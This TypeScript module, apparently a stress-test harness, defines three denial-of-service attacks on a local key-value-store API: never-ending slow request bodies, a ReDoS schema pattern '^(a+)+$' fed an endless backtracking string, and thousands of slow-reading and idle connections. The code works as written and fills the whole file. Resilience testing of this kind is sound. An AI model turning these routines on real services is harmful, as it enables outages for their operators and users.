import { connect, type Socket } from 'node:net'
import type { Attack, Target } from './attack.ts'

const bodyBytes = 9 * 1_048_576
const missingBytes = 184
const bodyCount = 100
const strictStores = 20
const largeValueBytes = 8 * 1_048_576
const idleConnections = 2_000
const slowReaders = 100
const dripMs = 100

async function call({ port, token }: Target, path: string, init: RequestInit): Promise<Response> {
  const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/json' }
  return fetch(`http://127.0.0.1:${port}${path}`, { ...init, headers })
}

async function createStore(target: Target, name: string, body = '{}'): Promise<string> {
  const path = `/v2/key-value-stores?name=${name}`
  const response = await call(target, path, { method: 'POST', body })
  const { data }: { data: { id: string } } = JSON.parse(await response.text())
  return data.id
}

function open({ port }: Target, text: string): Socket {
  const socket = connect(port, '127.0.0.1')
  socket.on('error', () => undefined)
  socket.write(text)
  return socket
}

function headOf({ token }: Target, line: string, length: number): string {
  const fields = `Host: 127.0.0.1\r\nAuthorization: Bearer ${token}\r\n`
  return `${line} HTTP/1.1\r\n${fields}Content-Type: application/json\r\nContent-Length: ${length}\r\n\r\n`
}

/** A text for which the pattern `^(a+)+$` takes years. */
const endless = JSON.stringify(`${'a'.repeat(50)}!`)

const strictSchema = JSON.stringify({
  schema: {
    actorKeyValueStoreSchemaVersion: 1,
    actorSpecification: 1,
    title: 'strict',
    collections: {
      all: {
        title: 'all',
        keyPrefix: 'x',
        contentTypes: ['application/json'],
        jsonSchema: { type: 'string', pattern: '^(a+)+$' },
      },
    },
  },
})

export const requestAttacks: Readonly<Record<string, Attack>> = {
  bodies: {
    what: `${bodyCount} bodies of 9 MB that never end`,
    prepare: async (target) => () => {
      for (let count = 0; count < bodyCount; count += 1) {
        const line = `POST /v2/key-value-stores?name=body-${count}`
        const socket = open(target, headOf(target, line, bodyBytes))
        socket.write(Buffer.alloc(bodyBytes - missingBytes, ' '))
        setInterval(() => socket.writable && socket.write(' '), dripMs)
      }
    },
  },
  schemas: {
    what: `PUTs to ${strictStores} stores whose schemas never end a check`,
    prepare: async (target) => {
      const stores: string[] = []
      for (let count = 0; count < strictStores; count += 1) {
        stores.push(await createStore(target, `strict-${count}`, strictSchema))
      }
      return () => {
        for (const store of stores) void putForEver(target, store)
      }
    },
  },
  connections: {
    what: `${slowReaders} slow readers and ${idleConnections} idle connections`,
    prepare: async (target) => {
      const store = await createStore(target, 'large')
      const path = `/v2/key-value-stores/${store}/records/large`
      const body = Buffer.alloc(largeValueBytes, 'x')
      await call(target, path, { method: 'PUT', body })
      return () => {
        for (let count = 0; count < slowReaders; count += 1) {
          const socket = open(target, headOf(target, `GET ${path}`, 0).repeat(50))
          socket.pause()
          setInterval(() => socket.read(1), dripMs)
        }
        for (let count = 0; count < idleConnections; count += 1) open(target, 'GET /')
      }
    },
  },
}

async function putForEver(target: Target, store: string): Promise<void> {
  const path = `/v2/key-value-stores/${store}/records/x`
  for (;;) await call(target, path, { method: 'PUT', body: endless }).then((r) => r.text())
}
